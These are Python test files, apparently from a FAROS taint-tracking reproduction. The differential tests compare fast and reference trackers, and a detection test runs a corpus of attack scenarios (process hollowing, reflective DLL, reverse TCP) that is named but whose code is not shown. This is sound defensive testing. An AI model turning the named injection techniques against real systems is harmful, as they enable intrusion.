  ``phys_write`` / ``taint_range`` sequences, with and without an acting
  process;
* **detection verdicts** -- every FAROS attack scenario (and a benign
  corpus sample) analysed by a fast-path ``Faros`` and a reference
  ``Faros`` side by side, asserting the flagged sets never drift;
* **the translate matrix** -- the same randomised guest programs run
  three ways (fast tracker through the translated-tainted tier, fast
  tracker through the instrumented interpreter, reference tracker),
  asserting bit-identical shadow/bank state, retirement-split stats,
  interner hit/miss counters, and tainted-load observations.  Unlike
  the co-attached pair (where the reference forces interpretation for
  both), each matrix leg runs on its own machine so the translated leg
  genuinely executes fused per-block taint closures.
* **the representation matrix** -- the same random op sequences and
  guest programs through the three shadow configurations (``array``:
  promote-at-one-byte, ``dict``: never promote, ``mixed``: forced
  promote/demote thresholds so pages cross the representation boundary
  mid-run), compared down to interner counters, retirement splits and
  tainted-load observations, with ``taint/reference.py`` as the
  byte-at-a-time oracle.

The quick versions of the randomised suites run in tier-1 (a ~100-case
smoke slice of the translate matrix included); the
``@pytest.mark.slow`` versions push the combined example counts past
1200 (``pytest -m slow tests/taint/test_differential.py``).

Both trackers in a co-attached pair share one ``TagStore``: tag indices
are minted on demand, and a shared store guarantees the same (cr3, path,
flow) always maps to the same ``Tag`` regardless of which tracker asks
first.  Observation comparison keeps only observations carrying taint --
the fast path legitimately skips all-clean instructions, which can never
contribute to a confluence verdict.
"""

from dataclasses import astuple

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.attacks import (
    build_atombombing_scenario,
    build_bypassuac_injection_scenario,
    build_code_injection_scenario,
    build_drop_reload_scenario,
    build_process_hollowing_scenario,
    build_reflective_dll_scenario,
    build_reverse_tcp_dns_scenario,
)
from repro.emulator.devices import Packet
from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.record_replay import PacketEvent
from repro.faros import Faros
from repro.isa.cpu import AccessKind
from repro.taint.intern import ProvInterner
from repro.taint.policy import TaintPolicy
from repro.taint.provenance import append_tag
from repro.taint.reference import ReferenceShadowMemory, ReferenceTaintTracker
from repro.taint.shadow import SHADOW_PAGE_SIZE, ShadowMemory
from repro.taint.tags import Tag, TagStore, TagType
from repro.taint.tracker import TaintTracker
from repro.workloads.corpus import corpus_samples

from tests.conftest import register_asm

TAGS = (
    Tag(TagType.NETFLOW, 0),
    Tag(TagType.NETFLOW, 1),
    Tag(TagType.PROCESS, 0),
    Tag(TagType.FILE, 0),
)

PARK = """
park:
    movi r1, 10000000
    movi r0, SYS_SLEEP
    syscall
    hlt
"""


# ======================================================================
# 1. shadow-operation differential
# ======================================================================

addresses = st.integers(0, 3 * SHADOW_PAGE_SIZE)
small_provs = st.lists(st.sampled_from(TAGS), max_size=3, unique=True).map(tuple)
scatter = st.lists(addresses, min_size=1, max_size=8).map(tuple)

shadow_ops = st.lists(
    st.one_of(
        st.tuples(st.just("set"), addresses, small_provs),
        st.tuples(st.just("set_range"), addresses, st.integers(0, 64), small_provs),
        st.tuples(st.just("clear_range"), addresses, st.integers(0, 64)),
        st.tuples(st.just("set_bytes"), scatter, small_provs),
        st.tuples(st.just("clear_bytes"), scatter),
    ),
    max_size=30,
)


def apply_shadow_op(shadow, op):
    name, args = op[0], op[1:]
    getattr(shadow, name)(*args)


def check_shadow_sequence(ops, interner):
    fast = ShadowMemory(interner)
    ref = ReferenceShadowMemory()
    touched = set()
    for op in ops:
        apply_shadow_op(fast, op)
        apply_shadow_op(ref, op)
        if op[0] in ("set",):
            touched.add(op[1])
        elif op[0] in ("set_range", "clear_range"):
            touched.update(range(op[1], op[1] + op[2]))
        else:
            touched.update(op[1])
    assert fast.snapshot() == ref.snapshot()
    assert fast.tainted_bytes == ref.tainted_bytes
    for paddr in touched:
        assert fast.get(paddr) == ref.get(paddr)
    for paddr in sorted(touched)[:8]:
        assert fast.get_range(paddr, 16) == ref.get_range(paddr, 16)
    probe = tuple(sorted(touched))[:16]
    assert fast.get_bytes(probe) == ref.get_bytes(probe)
    # pages_clean must never claim a dirty byte's page is clean.
    for paddr, prov in fast.snapshot().items():
        assert not fast.pages_clean((paddr,))


class TestShadowOperationDifferential:
    @given(ops=shadow_ops)
    @settings(max_examples=50, deadline=None)
    def test_quick(self, ops):
        check_shadow_sequence(ops, interner=None)

    @given(ops=shadow_ops)
    @settings(max_examples=50, deadline=None)
    def test_quick_interned(self, ops):
        check_shadow_sequence(ops, interner=ProvInterner())

    @pytest.mark.slow
    @given(ops=shadow_ops)
    @settings(max_examples=600, deadline=None)
    def test_exhaustive(self, ops):
        check_shadow_sequence(ops, interner=ProvInterner())


# ======================================================================
# 2. instruction-stream differential (one machine, both trackers)
# ======================================================================

SEED_A = Tag(TagType.NETFLOW, 7)
SEED_B = Tag(TagType.FILE, 3)


def attach_pair(machine, policy):
    """One fast and one reference tracker on the same machine.

    The reference's ``wants_insn_effects`` is always True, so the
    machine instruments every instruction and both trackers see the
    identical stream; the fast tracker still exercises its own
    per-instruction all-clean exit.
    """
    tags = TagStore()
    fast = TaintTracker(policy=policy, tags=tags, interner=ProvInterner())
    ref = ReferenceTaintTracker(policy=policy, tags=tags)
    machine.plugins.register(fast)
    machine.plugins.register(ref)
    return fast, ref


def tainted_observations(log):
    """Comparable projection of the observations that carry any taint."""
    out = []
    for obs in log:
        reads = tuple(prov for _, prov in obs.reads)
        if obs.insn_prov or any(reads):
            out.append((obs.fx.pc, obs.insn_prov, reads))
    return out


def assert_equivalent(fast, ref, fast_obs=None, ref_obs=None):
    assert fast.shadow.snapshot() == ref.shadow.snapshot()
    assert fast.shadow.tainted_bytes == ref.shadow.tainted_bytes
    assert fast.banks.snapshot() == ref.banks.snapshot()
    assert fast.stats.instructions == ref.stats.instructions
    assert (
        fast.stats.instructions
        == fast.stats.fast_retirements + fast.stats.slow_retirements
    )
    if fast_obs is not None:
        assert tainted_observations(fast_obs) == tainted_observations(ref_obs)


@st.composite
def guest_programs(draw):
    """A random terminating guest program over tainted inputs.

    Straight-line ALU/move/load/store/stack traffic over r1..r5, with
    occasional forward-only tainted branches (to drive the flags shadow
    and the control-dependency window), reading from two seeded input
    words and a scratch buffer.
    """
    lines = [
        "start:",
        "    movi r6, in_a",
        "    ld r1, [r6]",
        "    movi r6, in_b",
        "    ld r2, [r6]",
    ]
    n_ops = draw(st.integers(1, 14))
    branches = 0
    for _ in range(n_ops):
        kind = draw(
            st.sampled_from(
                ["alu", "alui", "mov", "movi", "ld", "st", "ldb", "stb", "stack", "branch"]
            )
        )
        rd = draw(st.integers(1, 5))
        rs1 = draw(st.integers(1, 5))
        rs2 = draw(st.integers(1, 5))
        if kind == "alu":
            op = draw(st.sampled_from(["add", "sub", "mul", "and", "or", "xor", "shl", "shr"]))
            lines.append(f"    {op} r{rd}, r{rs1}, r{rs2}")
        elif kind == "alui":
            op = draw(st.sampled_from(["addi", "subi", "xori", "andi", "ori"]))
            lines.append(f"    {op} r{rd}, r{rs1}, {draw(st.integers(0, 255))}")
        elif kind == "mov":
            lines.append(f"    mov r{rd}, r{rs1}")
        elif kind == "movi":
            lines.append(f"    movi r{rd}, {draw(st.integers(0, 0xFFFF))}")
        elif kind == "ld":
            lines.append("    movi r6, buf")
            lines.append(f"    ld r{rd}, [r6+{4 * draw(st.integers(0, 7))}]")
        elif kind == "ldb":
            lines.append("    movi r6, buf")
            lines.append(f"    ldb r{rd}, [r6+{draw(st.integers(0, 31))}]")
        elif kind == "st":
            lines.append("    movi r6, buf")
            lines.append(f"    st [r6+{4 * draw(st.integers(0, 7))}], r{rs1}")
        elif kind == "stb":
            lines.append("    movi r6, buf")
            lines.append(f"    stb [r6+{draw(st.integers(0, 31))}], r{rs1}")
        elif kind == "stack":
            lines.append(f"    push r{rs1}")
            lines.append(f"    pop r{rd}")
        else:  # forward-only branch on possibly-tainted data
            label = f"fwd{branches}"
            branches += 1
            jump = draw(st.sampled_from(["jz", "jnz"]))
            lines.append(f"    cmpi r{rs1}, {draw(st.integers(0, 3))}")
            lines.append(f"    {jump} {label}")
            lines.append(f"    movi r{rd}, {draw(st.integers(0, 99))}")
            lines.append(f"{label}:")
    lines.append("    movi r6, out")
    for i in range(5):
        lines.append(f"    st [r6+{4 * i}], r{i + 1}")
    lines.append("    jmp park")
    if draw(st.booleans()):
        # Data on its own 4 KiB shadow page: seeded taint leaves the
        # code's fetch pages clean, so the translated leg of the matrix
        # runs the fused per-block taint closures.  Unpadded programs
        # keep the data on the code's shadow page and cover the
        # dirty-fetch interpreter window instead.
        lines.append("pad_data: .space 8192")
    lines.append("in_a: .word 0x1234")
    lines.append("in_b: .word 0xbeef")
    lines.append("buf: .space 32")
    lines.append("out: .space 20")
    return "\n".join(lines)


policies = st.builds(
    TaintPolicy,
    track_address_deps=st.booleans(),
    track_control_deps=st.booleans(),
    process_tags_on_access=st.booleans(),
)

seed_choices = st.sampled_from(["a", "b", "ab", "buf", "none"])


def run_program_differential(body, policy, seeds):
    machine = Machine(MachineConfig())
    fast, ref = attach_pair(machine, policy)
    fast_obs, ref_obs = [], []
    fast.add_load_listener(lambda m, obs: fast_obs.append(obs))
    ref.add_load_listener(lambda m, obs: ref_obs.append(obs))
    prog = register_asm(machine, "d.exe", body, PARK)
    proc = machine.kernel.spawn("d.exe")

    def seed(label, n, tag):
        paddrs = proc.aspace.translate_range(prog.label(label), n, AccessKind.READ)
        fast.pipeline.taint(paddrs, tag)
        ref.pipeline.taint(paddrs, tag)

    if "a" in seeds:
        seed("in_a", 4, SEED_A)
    if "b" in seeds:
        seed("in_b", 4, SEED_B)
    if seeds == "buf":
        seed("buf", 8, SEED_A)
    machine.run(300_000)
    assert_equivalent(fast, ref, fast_obs, ref_obs)


class TestInstructionStreamDifferential:
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=30, deadline=None)
    def test_quick(self, body, policy, seeds):
        run_program_differential(body, policy, seeds)

    @pytest.mark.slow
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=300, deadline=None)
    def test_exhaustive(self, body, policy, seeds):
        run_program_differential(body, policy, seeds)


# ======================================================================
# 3. kernel-copy and external-write differential
# ======================================================================

#: Physical scratch window for raw copy/write fuzzing -- low reserved
#: memory, untouched by any process the test spawns.
SCRATCH_BASE = 0x2000
SCRATCH_SIZE = 2 * SHADOW_PAGE_SIZE

offsets = st.integers(0, SCRATCH_SIZE - 64)
lengths = st.integers(1, 48)

kernel_ops = st.lists(
    st.one_of(
        st.tuples(st.just("taint"), offsets, lengths, st.sampled_from(TAGS)),
        st.tuples(st.just("copy"), offsets, offsets, lengths, st.booleans()),
        st.tuples(st.just("write"), offsets, lengths),
    ),
    min_size=1,
    max_size=20,
)


def run_kernel_differential(ops, process_tags):
    machine = Machine(MachineConfig())
    policy = TaintPolicy(process_tags_on_access=process_tags)
    fast, ref = attach_pair(machine, policy)
    register_asm(machine, "k.exe", "start: jmp park", PARK)
    proc = machine.kernel.spawn("k.exe")
    for op in ops:
        if op[0] == "taint":
            paddrs = range(SCRATCH_BASE + op[1], SCRATCH_BASE + op[1] + op[2])
            fast.pipeline.taint(paddrs, op[3])
            ref.pipeline.taint(paddrs, op[3])
        elif op[0] == "copy":
            dst = range(SCRATCH_BASE + op[1], SCRATCH_BASE + op[1] + op[3])
            src = range(SCRATCH_BASE + op[2], SCRATCH_BASE + op[2] + op[3])
            machine.phys_copy(tuple(dst), tuple(src), actor=proc if op[4] else None)
        else:
            paddrs = tuple(range(SCRATCH_BASE + op[1], SCRATCH_BASE + op[1] + op[2]))
            machine.phys_write(paddrs, b"\x00" * op[2], source="fuzz")
    assert_equivalent(fast, ref)


class TestKernelPathDifferential:
    @given(ops=kernel_ops, process_tags=st.booleans())
    @settings(max_examples=40, deadline=None)
    def test_quick(self, ops, process_tags):
        run_kernel_differential(ops, process_tags)

    @pytest.mark.slow
    @given(ops=kernel_ops, process_tags=st.booleans())
    @settings(max_examples=300, deadline=None)
    def test_exhaustive(self, ops, process_tags):
        run_kernel_differential(ops, process_tags)

    def test_recv_pipeline(self):
        """End-to-end kernel path: DMA write, recv copy, guest loads."""
        machine = Machine(MachineConfig())
        fast, ref = attach_pair(machine, TaintPolicy())

        from repro.emulator.plugins import Plugin

        seeder = Plugin()

        def on_rx(m, packet, paddrs):
            fast.pipeline.taint(paddrs, SEED_A)
            ref.pipeline.taint(paddrs, SEED_A)

        seeder.on_packet_receive = on_rx
        machine.plugins.register(seeder)
        register_asm(
            machine,
            "rx.exe",
            """
            start:
                movi r0, SYS_SOCKET
                syscall
                mov r7, r0
                mov r1, r7
                movi r2, ip
                movi r3, 4444
                movi r0, SYS_CONNECT
                syscall
                mov r1, r7
                movi r2, buf
                movi r3, 8
                movi r0, SYS_RECV
                syscall
                movi r6, buf
                ld r1, [r6]
                movi r6, out
                st [r6], r1
                jmp park
            ip: .asciz "9.9.9.9"
            buf: .space 8
            out: .space 4
            """,
            PARK,
        )
        machine.kernel.spawn("rx.exe")
        machine.schedule(
            2000,
            PacketEvent(
                Packet("9.9.9.9", 4444, machine.devices.nic.ip, 49152, b"EVILEVIL")
            ),
        )
        machine.run(300_000)
        assert_equivalent(fast, ref)
        assert fast.shadow.tainted_bytes > 0  # the pipeline really moved taint


# ======================================================================
# 4. translate matrix: translated-taint vs interpreter vs reference
# ======================================================================


def run_single(body, policy, seeds, tracker, translate, extra_seeds=()):
    """Run *body* under one tracker alone on a fresh machine.

    Alone matters: with no co-attached reference demanding the full
    effect stream, a ``TaintTracker`` on a translating machine really
    dispatches through the translated-tainted tier.
    """
    machine = Machine(MachineConfig(translate=translate))
    machine.plugins.register(tracker)
    obs_log = []
    tracker.add_load_listener(lambda m, obs: obs_log.append(obs))
    prog = register_asm(machine, "m.exe", body, PARK)
    proc = machine.kernel.spawn("m.exe")

    def seed(label, n, tag):
        paddrs = proc.aspace.translate_range(prog.label(label), n, AccessKind.READ)
        tracker.pipeline.taint(paddrs, tag)

    if "a" in seeds:
        seed("in_a", 4, SEED_A)
    if "b" in seeds:
        seed("in_b", 4, SEED_B)
    if seeds == "buf":
        seed("buf", 8, SEED_A)
    for label, n, tag in extra_seeds:
        seed(label, n, tag)
    machine.run(300_000)
    return machine, obs_log


def run_translate_matrix(body, policy, seeds):
    translated = TaintTracker(policy=policy, interner=ProvInterner())
    interpreted = TaintTracker(policy=policy, interner=ProvInterner())
    reference = ReferenceTaintTracker(policy=policy)
    machine_t, obs_t = run_single(body, policy, seeds, translated, translate=True)
    machine_i, obs_i = run_single(body, policy, seeds, interpreted, translate=False)
    machine_r, obs_r = run_single(body, policy, seeds, reference, translate=False)

    assert machine_t.now == machine_i.now == machine_r.now

    # Translated vs interpreted fast path: bit-identical everything,
    # down to the interner call sequence (hit/miss deltas) and the
    # fast/slow retirement split.
    assert translated.shadow.snapshot() == interpreted.shadow.snapshot()
    assert translated.shadow.tainted_bytes == interpreted.shadow.tainted_bytes
    assert translated.banks.snapshot() == interpreted.banks.snapshot()
    assert translated.stats.instructions == interpreted.stats.instructions
    assert translated.stats.fast_retirements == interpreted.stats.fast_retirements
    assert translated.stats.slow_retirements == interpreted.stats.slow_retirements
    assert (
        translated.stats.process_tag_appends == interpreted.stats.process_tag_appends
    )
    assert (translated.interner.hits, translated.interner.misses) == (
        interpreted.interner.hits,
        interpreted.interner.misses,
    ), "interner call sequences diverged between translated and interpreted"
    assert tainted_observations(obs_t) == tainted_observations(obs_i)

    # Both fast legs vs the reference semantics.
    assert translated.shadow.snapshot() == reference.shadow.snapshot()
    assert translated.banks.snapshot() == reference.banks.snapshot()
    assert translated.stats.instructions == reference.stats.instructions
    assert tainted_observations(obs_t) == tainted_observations(obs_r)


class TestTranslateMatrixDifferential:
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=35, deadline=None)
    def test_quick(self, body, policy, seeds):
        run_translate_matrix(body, policy, seeds)

    @pytest.mark.slow
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=400, deadline=None)
    def test_exhaustive(self, body, policy, seeds):
        run_translate_matrix(body, policy, seeds)


# ======================================================================
# 5. detection-verdict differential over the FAROS attack corpus
# ======================================================================

ATTACKS = {
    "atombombing": build_atombombing_scenario,
    "bypassuac_injection": build_bypassuac_injection_scenario,
    "code_injection": build_code_injection_scenario,
    "drop_reload": build_drop_reload_scenario,
    "process_hollowing": build_process_hollowing_scenario,
    "reflective_dll": build_reflective_dll_scenario,
    "reverse_tcp_dns": build_reverse_tcp_dns_scenario,
}


def flag_keys(faros):
    return {
        (f.pc, f.rule, f.executing_pid, f.executing_process, f.read_vaddr, f.insn_text)
        for f in faros.detector.flagged
    }


class TestDetectionVerdictDifferential:
    @pytest.mark.parametrize("name", sorted(ATTACKS))
    def test_attack_verdicts_never_drift(self, name):
        attack = ATTACKS[name]()
        fast = Faros()
        ref = Faros(tracker_cls=ReferenceTaintTracker)
        attack.scenario.run(plugins=[fast, ref])
        assert ref.attack_detected, f"{name}: reference no longer detects the attack"
        assert fast.attack_detected == ref.attack_detected
        assert flag_keys(fast) == flag_keys(ref)
        assert (
            fast.tracker.stats.instructions == ref.tracker.stats.instructions
        )

    def test_benign_sample_clears_identically(self):
        spec = next(s for s in corpus_samples() if s.benign)
        fast = Faros()
        ref = Faros(tracker_cls=ReferenceTaintTracker)
        spec.scenario().run(plugins=[fast, ref])
        assert not ref.attack_detected
        assert not fast.attack_detected
        assert flag_keys(fast) == flag_keys(ref) == set()


# ======================================================================
# 6. shadow-representation matrix: array vs dict vs forced-mixed
# ======================================================================

SHADOW_MODES = ("array", "dict", "mixed")

#: Op mix biased toward long uniform runs (promotion fodder in the
#: array/mixed configurations) interleaved with scattered writes of
#: distinct provenance (code-set growth past the forced-mixed cap, so
#: pages demote again), walking pages across the representation
#: boundary mid-sequence.
rep_lengths = st.integers(1, 200)
rep_ops = st.lists(
    st.one_of(
        st.tuples(st.just("set_range"), addresses, rep_lengths, small_provs),
        st.tuples(st.just("append_range"), addresses, rep_lengths, st.sampled_from(TAGS)),
        st.tuples(st.just("set"), addresses, small_provs),
        st.tuples(st.just("clear_range"), addresses, rep_lengths),
        st.tuples(st.just("set_bytes"), scatter, small_provs),
        st.tuples(
            st.just("copy_range"),
            addresses,
            addresses,
            st.integers(1, 96),
            st.sampled_from(TAGS + (None,)),
        ),
    ),
    min_size=2,
    max_size=24,
)


def apply_rep_op_reference(ref, op):
    """Byte-at-a-time oracle semantics for the bulk-only shadow ops."""
    name, args = op[0], op[1:]
    if name == "append_range":
        start, length, tag = args
        for paddr in range(start, start + length):
            ref.set(paddr, append_tag(ref.get(paddr), tag))
    elif name == "copy_range":
        dst, src, length, tag = args
        for i in range(length):
            prov = ref.get(src + i)
            if prov and tag is not None:
                prov = append_tag(prov, tag)
            ref.set(dst + i, prov)
    else:
        getattr(ref, name)(*args)


def check_representation_sequence(ops):
    interners = {mode: ProvInterner() for mode in SHADOW_MODES}
    shadows = {mode: ShadowMemory(interners[mode], mode=mode) for mode in SHADOW_MODES}
    ref = ReferenceShadowMemory()
    for op in ops:
        for shadow in shadows.values():
            getattr(shadow, op[0])(*op[1:])
        apply_rep_op_reference(ref, op)
    expected = ref.snapshot()
    for mode, shadow in shadows.items():
        assert shadow.snapshot() == expected, mode
        assert shadow.tainted_bytes == ref.tainted_bytes, mode
    # The bulk paths must score the exact hits/misses of the per-byte
    # loops they replace, no matter which representation ran them.
    base_counts = (interners["array"].hits, interners["array"].misses)
    for mode in ("dict", "mixed"):
        assert (interners[mode].hits, interners[mode].misses) == base_counts, mode
    for paddr in sorted(expected)[:8]:
        for shadow in shadows.values():
            assert shadow.get(paddr) == ref.get(paddr)
            assert not shadow.pages_clean((paddr,))
            assert not shadow.range_clean(paddr, 1)


class TestShadowRepresentationMatrix:
    @given(ops=rep_ops)
    @settings(max_examples=40, deadline=None)
    def test_quick(self, ops):
        check_representation_sequence(ops)

    @pytest.mark.slow
    @given(ops=rep_ops)
    @settings(max_examples=400, deadline=None)
    def test_exhaustive(self, ops):
        check_representation_sequence(ops)

    def test_forced_mixed_promotes_then_demotes_preserving_provenance(self):
        shadow = ShadowMemory(ProvInterner(), mode="mixed")
        prov = (TAGS[0],)
        for i in range(8):
            shadow.set(i, prov)  # dict page grows to the forced cap...
        assert shadow.promotions >= 1  # ...and promotes to the array form
        assert shadow.array_page_count == 1
        expected = shadow.snapshot()
        for i, tag in enumerate(TAGS[:3]):  # 3 distinct codes > cap of 2
            shadow.set(100 + i, (tag,))
            expected[100 + i] = (tag,)
        assert shadow.demotions >= 1
        assert shadow.dict_page_count == 1
        assert shadow.array_page_count == 0
        assert shadow.snapshot() == expected


def run_representation_matrix(body, policy, seeds):
    """The translate matrix again, across shadow representations.

    Every leg runs the translated-tainted tier; only the shadow
    configuration differs.  Seeding ``buf`` with one long uniform run
    makes the array/mixed legs promote that page up front, and programs
    that store mixed unions into it push forced-mixed past its code cap
    and demote it again mid-run.
    """
    extra = (("buf", 32, SEED_A),)
    legs = {}
    for mode in SHADOW_MODES:
        tracker = TaintTracker(
            policy=policy, interner=ProvInterner(), shadow_mode=mode
        )
        machine, obs = run_single(body, policy, seeds, tracker, True, extra)
        legs[mode] = (machine, tracker, obs)
    reference = ReferenceTaintTracker(policy=policy)
    machine_r, obs_r = run_single(body, policy, seeds, reference, False, extra)

    machine_b, base, obs_b = legs[SHADOW_MODES[0]]
    for mode in SHADOW_MODES[1:]:
        machine_m, tracker, obs_m = legs[mode]
        assert machine_m.now == machine_b.now
        assert tracker.shadow.snapshot() == base.shadow.snapshot(), mode
        assert tracker.shadow.tainted_bytes == base.shadow.tainted_bytes, mode
        assert tracker.banks.snapshot() == base.banks.snapshot(), mode
        assert tracker.stats.instructions == base.stats.instructions, mode
        assert tracker.stats.fast_retirements == base.stats.fast_retirements, mode
        assert tracker.stats.slow_retirements == base.stats.slow_retirements, mode
        assert (
            tracker.stats.process_tag_appends == base.stats.process_tag_appends
        ), mode
        assert (tracker.interner.hits, tracker.interner.misses) == (
            base.interner.hits,
            base.interner.misses,
        ), f"interner call sequences diverged in shadow mode {mode}"
        assert tainted_observations(obs_m) == tainted_observations(obs_b), mode

    assert machine_b.now == machine_r.now
    assert base.shadow.snapshot() == reference.shadow.snapshot()
    assert base.banks.snapshot() == reference.banks.snapshot()
    assert base.stats.instructions == reference.stats.instructions
    assert tainted_observations(obs_b) == tainted_observations(obs_r)


class TestProgramRepresentationMatrix:
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=15, deadline=None)
    def test_quick(self, body, policy, seeds):
        run_representation_matrix(body, policy, seeds)

    @pytest.mark.slow
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=150, deadline=None)
    def test_exhaustive(self, body, policy, seeds):
        run_representation_matrix(body, policy, seeds)


# ======================================================================
# 7. pipeline-transport matrix: inline vs batched vs worker
# ======================================================================


def run_pipeline_matrix(body, policy, seeds, modes=("inline", "batched")):
    """The translate matrix again, across event-transport modes.

    Drop-free batched/worker runs queue channel events and drain them at
    the machine's consistency barriers; they must stay bit-identical to
    the inline transport down to interner counters, retirement splits
    and tainted-load observations.
    """
    legs = {}
    for mode in modes:
        tracker = TaintTracker(
            policy=policy, interner=ProvInterner(), taint_pipeline=mode
        )
        machine, obs = run_single(body, policy, seeds, tracker, translate=True)
        legs[mode] = (machine, tracker, obs)

    machine_b, base, obs_b = legs[modes[0]]
    for mode in modes[1:]:
        machine_m, tracker, obs_m = legs[mode]
        pipe = tracker.pipeline
        assert pipe.drops == 0, f"{mode}: a drop-free run soft-dropped"
        assert pipe.depth == 0, f"{mode}: events left queued after the run"
        assert machine_m.now == machine_b.now
        assert tracker.shadow.snapshot() == base.shadow.snapshot(), mode
        assert tracker.shadow.tainted_bytes == base.shadow.tainted_bytes, mode
        assert tracker.banks.snapshot() == base.banks.snapshot(), mode
        assert tracker.stats.instructions == base.stats.instructions, mode
        assert tracker.stats.fast_retirements == base.stats.fast_retirements, mode
        assert tracker.stats.slow_retirements == base.stats.slow_retirements, mode
        assert tracker.stats.external_writes == base.stats.external_writes, mode
        assert tracker.stats.kernel_copies == base.stats.kernel_copies, mode
        assert (
            tracker.stats.process_tag_appends == base.stats.process_tag_appends
        ), mode
        assert (tracker.interner.hits, tracker.interner.misses) == (
            base.interner.hits,
            base.interner.misses,
        ), f"interner call sequences diverged in pipeline mode {mode}"
        assert tainted_observations(obs_m) == tainted_observations(obs_b), mode
        if mode == "worker":
            summary = pipe.close()
            assert pipe.worker_error is None, pipe.worker_error
            assert summary is not None and summary["records"] > 0


class TestPipelineTransportDifferential:
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=20, deadline=None)
    def test_quick_batched(self, body, policy, seeds):
        run_pipeline_matrix(body, policy, seeds)

    def test_worker_leg_fixed_program(self):
        """One deterministic program through all three transports; the
        worker leg forks a consumer process, so it runs once, not per
        hypothesis example."""
        body = "\n".join(
            [
                "start:",
                "    movi r6, in_a",
                "    ld r1, [r6]",
                "    movi r6, in_b",
                "    ld r2, [r6]",
                "    add r3, r1, r2",
                "    movi r6, buf",
                "    st [r6], r3",
                "    ld r4, [r6]",
                "    push r4",
                "    pop r5",
                "    movi r6, out",
                "    st [r6], r5",
                "    jmp park",
                "pad_data: .space 8192",
                "in_a: .word 0x1234",
                "in_b: .word 0xbeef",
                "buf: .space 32",
                "out: .space 20",
            ]
        )
        run_pipeline_matrix(
            body, TaintPolicy(), "ab", modes=("inline", "batched", "worker")
        )

    @pytest.mark.slow
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=100, deadline=None)
    def test_exhaustive_batched(self, body, policy, seeds):
        run_pipeline_matrix(body, policy, seeds)

    @pytest.mark.slow
    @given(body=guest_programs(), policy=policies, seeds=seed_choices)
    @settings(max_examples=25, deadline=None)
    def test_exhaustive_worker(self, body, policy, seeds):
        run_pipeline_matrix(body, policy, seeds, modes=("inline", "worker"))

    @staticmethod
    def assert_attack_identical(name, mode):
        """A real attack replay through a non-inline transport must be
        bit-identical to inline: verdict, delivery journal, rendered
        report, shadow state, stats and interner call sequences."""
        base = Faros()
        machine_base = ATTACKS[name]().scenario.run(plugins=[base])
        alt = Faros(taint_pipeline=mode)
        machine_alt = ATTACKS[name]().scenario.run(plugins=[alt])
        assert alt.pipeline.drops == 0
        assert alt.pipeline.depth == 0
        assert base.attack_detected and alt.attack_detected
        assert [(at, repr(ev)) for at, ev in machine_alt.journal] == [
            (at, repr(ev)) for at, ev in machine_base.journal
        ]
        assert alt.report().to_json_dict() == base.report().to_json_dict()
        assert alt.report().render() == base.report().render()
        assert flag_keys(alt) == flag_keys(base)
        assert alt.tracker.shadow.snapshot() == base.tracker.shadow.snapshot()
        assert astuple(alt.tracker.stats) == astuple(base.tracker.stats)
        assert (alt.tracker.interner.hits, alt.tracker.interner.misses) == (
            base.tracker.interner.hits,
            base.tracker.interner.misses,
        ), f"interner call sequences diverged on {name} under {mode}"

    @pytest.mark.parametrize("name", sorted(ATTACKS))
    def test_attack_corpus_bit_identical_batched(self, name):
        self.assert_attack_identical(name, "batched")

    # The worker leg forks a consumer per run, so it covers two
    # representative families rather than the whole corpus; the slow
    # suite's randomized worker matrix backs up the rest.
    @pytest.mark.parametrize("name", ["code_injection", "reflective_dll"])
    def test_attack_corpus_bit_identical_worker(self, name):
        self.assert_attack_identical(name, "worker")
