"""Integration tests for the whole-system taint tracker.

Each test runs a real guest program under the tracker, seeds provenance
on guest bytes, and checks where it flows.  The Figure 1 / Figure 2
programs from the paper appear here as the canonical indirect-flow
cases.
"""

import pytest

from repro.emulator.devices import Packet
from repro.emulator.machine import Machine, MachineConfig
from repro.emulator.record_replay import PacketEvent
from repro.isa.cpu import AccessKind
from repro.isa.registers import Reg
from repro.taint.policy import TaintPolicy
from repro.taint.tags import Tag, TagType
from repro.taint.tracker import TaintTracker

from tests.conftest import register_asm

SEED = Tag(TagType.NETFLOW, 77)

# Guest programs park (sleep forever) instead of exiting so their memory
# and its shadow state survive for inspection.
PARK = """
park:
    movi r1, 10000000
    movi r0, SYS_SLEEP
    syscall
    hlt
"""


def launch(body, policy=None, machine=None):
    """Spawn *body* + PARK under a tracker; returns (machine, tracker, proc, prog)."""
    machine = machine or Machine(MachineConfig())
    tracker = TaintTracker(policy=policy or TaintPolicy(process_tags_on_access=False))
    machine.plugins.register(tracker)
    prog = register_asm(machine, "t.exe", body, PARK)
    proc = machine.kernel.spawn("t.exe")
    return machine, tracker, proc, prog


def paddrs_of(proc, prog, label, n):
    return proc.aspace.translate_range(prog.label(label), n, AccessKind.READ)


def seed(tracker, proc, prog, label, n, tag=SEED):
    tracker.pipeline.taint(paddrs_of(proc, prog, label, n), tag)


class TestDirectFlows:
    def test_word_copy_via_registers(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                ld r2, [r1]
                movi r3, dst
                st [r3], r2
                jmp park
            src: .word 0x11223344
            dst: .word 0
            """
        )
        seed(tracker, proc, prog, "src", 4)
        machine.run(300_000)
        assert tracker.prov_of_range(paddrs_of(proc, prog, "dst", 4)) == (SEED,)

    def test_byte_copy_loop(self):
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, src
                movi r2, dst
                movi r3, 4
            loop:
                ldb r4, [r1]
                stb [r2], r4
                addi r1, r1, 1
                addi r2, r2, 1
                subi r3, r3, 1
                cmpi r3, 0
                jnz loop
                jmp park
            src: .word 0xdeadbeef
            dst: .word 0
            """
        )
        seed(tracker, proc, prog, "src", 4)
        machine.run(300_000)
        for paddr in paddrs_of(proc, prog, "dst", 4):
            assert tracker.prov_at(paddr) == (SEED,)

    def test_computation_unions_tags(self):
        other = Tag(TagType.FILE, 3)
        machine, tracker, proc, prog = launch(
            """
            start:
                movi r1, a
